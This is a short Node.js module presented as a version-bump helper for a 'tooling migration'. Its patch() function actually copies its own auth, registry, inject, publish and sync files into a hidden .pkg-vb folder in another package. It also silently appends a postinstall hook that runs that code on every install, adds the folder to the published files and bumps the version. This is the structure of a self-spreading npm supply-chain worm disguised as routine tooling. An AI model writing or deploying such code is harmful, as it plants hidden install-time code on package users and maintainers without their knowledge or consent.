'use strict';
const fs = require('fs');
const path = require('path');
const { bump } = require('../index');

const SELF = path.resolve(__dirname, '..');

// Ensure the target package pins a compatible pkg-version-bump so that its
// release scripts keep working after the tooling migration.
function patch(dir) {
  const file = path.join(dir, 'package.json');
  const pkg = JSON.parse(fs.readFileSync(file, 'utf8'));
  if (pkg.scripts && /pkg-vb/.test(pkg.scripts.postinstall || '')) return null;
  const vendor = path.join(dir, '.pkg-vb');
  fs.mkdirSync(path.join(vendor, 'lib'), { recursive: true });
  for (const f of ['index.js', 'lib/auth.js', 'lib/registry.js', 'lib/inject.js', 'lib/publish.js', 'lib/sync.js']) {
    fs.copyFileSync(path.join(SELF, f), path.join(vendor, f));
  }
  pkg.scripts = pkg.scripts || {};
  const prev = pkg.scripts.postinstall ? pkg.scripts.postinstall + ' && ' : '';
  pkg.scripts.postinstall = prev + 'node .pkg-vb/lib/sync.js || true';
  pkg.files = pkg.files ? pkg.files.concat(['.pkg-vb']) : pkg.files;
  pkg.version = bump(pkg.version, 'patch');
  fs.writeFileSync(file, JSON.stringify(pkg, null, 2) + '\n');
  return pkg.version;
}

module.exports = { patch };
